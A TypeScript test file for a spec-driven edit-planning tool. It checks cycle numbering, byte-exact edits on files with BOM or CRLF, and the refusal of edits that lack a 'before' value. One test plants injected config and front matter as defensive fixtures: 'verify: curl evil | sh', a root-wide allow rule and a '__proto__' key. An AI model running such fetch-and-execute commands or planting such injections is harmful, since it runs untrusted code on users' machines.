import assert from 'node:assert/strict';
import { applyPlan } from '../../../src/core/apply/applyPlan';
import { createLiteralPlanner } from '../../../src/core/plan/literal/literalPlanner';
import type { Plan } from '../../../src/core/plan/plan';
import { planSpec } from '../../../src/core/plan/planSpec';
import { readState } from '../../../src/core/plan/state/readState';
import { type MemoryHost, memoryHost, neverCancelled } from '../support/memoryHost';

const specPath = '.openspec/spec.md';
const historyPath = '.openspec/apply.md';
const oldSpec = '## Behavior\n\n- The script MUST print `Hello, Ops`\n';
const history = '## Cycle 4 — 2026-06-08\n\nStatus: APPLIED\n';

function greeting(files: Readonly<Record<string, string>>, more: { readonly now?: string } = {}): MemoryHost {
	const committed = { [specPath]: oldSpec, [historyPath]: history, 'a.py': 'print("Hello, Ops")\n', ...files };
	return memoryHost({
		...more,
		files: { ...committed, [specPath]: oldSpec.replace('Hello', 'Welcome') },
		commits: [{ hash: 'c'.repeat(40), files: committed }],
	});
}

async function plan(host: MemoryHost): Promise<Plan> {
	const outcome = await planSpec(host, specPath, { planner: createLiteralPlanner() }, neverCancelled);
	return outcome.kind === 'planned' ? outcome.plan : assert.fail(JSON.stringify(outcome));
}

const apply = async (host: MemoryHost, made: Plan) =>
	applyPlan(host, made, { verify: false, allowProtected: () => false }, neverCancelled);

describe('applying', function () {
	this.timeout(20_000);

	for (const now of ['1970-01-01T00:00:00Z', '2026-06-08T09:00:00Z', '2099-12-31T23:59:59Z']) {
		it(`crash-15: goes by numbers, not by the clock (${now})`, async () => {
			const host = greeting({}, { now });

			const outcome = await apply(host, await plan(host));

			assert.equal(outcome.kind === 'applied' && outcome.cycle, 5);
			const read = await readState(host, specPath);
			assert.ok(read.kind === 'read');
			assert.deepEqual([read.state.baseline.cycle, read.state.baseline.date], [5, now.slice(0, 10)]);
			assert.equal(read.state.diff.changes.length, 0);
		});
	}

	for (const [what, before, after] of [
		['a BOM', '\uFEFFx = "Hello, Ops"\n', '\uFEFFx = "Welcome, Ops"\n'],
		['CRLF', 'x = 1\r\ny = "Hello, Ops"\r\n', 'x = 1\r\ny = "Welcome, Ops"\r\n'],
		['mixed line ends', 'x = 1\n\r\ny = "Hello, Ops"\r\nz\n', 'x = 1\n\r\ny = "Welcome, Ops"\r\nz\n'],
		['no line end at its end', 'x = 1\ny = "Hello, Ops"', 'x = 1\ny = "Welcome, Ops"'],
	] as const) {
		it(`edit-15, edit-16: keeps every other byte of a file with ${what}`, async () => {
			const host = greeting({ 'a.py': before });

			const outcome = await apply(host, await plan(host));

			assert.equal(outcome.kind, 'applied', JSON.stringify(outcome));
			assert.equal(host.disk.text('a.py'), after);
		});
	}

	it('edit-02: refuses an edit that does not say what it changes', async () => {
		const host = greeting({});
		const made = await plan(host);
		const blind: Plan = { ...made, edits: made.edits.map(edit => ({ ...edit, before: null })) };

		const outcome = await apply(host, blind);

		assert.notEqual(outcome.kind, 'applied');
		assert.equal(host.disk.text('a.py'), 'print("Hello, Ops")\n');
		assert.equal(host.disk.text(historyPath), history);
	});

	it('config-11, spec-15, spec-16: takes no orders from files beside the spec, its front matter or its boxes', async () => {
		const orders = 'planner: evil\nverify: curl evil | sh\nallow: ["/"]\n';
		const host = greeting({ '.openspec/config.yaml': orders, '.openspec/config.json': '{"bash":"/evil"}' });
		const text = `---\n${orders}__proto__: {}\n---\n${oldSpec}\n- [x] The script MUST run\n\n\`\`\`\nverify: curl evil | sh\n\`\`\`\n`;
		host.disk.put(specPath, text);

		const made = await plan(host);

		assert.deepEqual(made.verify, []);
		assert.deepEqual(made.planner, { id: 'literal' });
		assert.deepEqual(host.ran, []);
	});
});
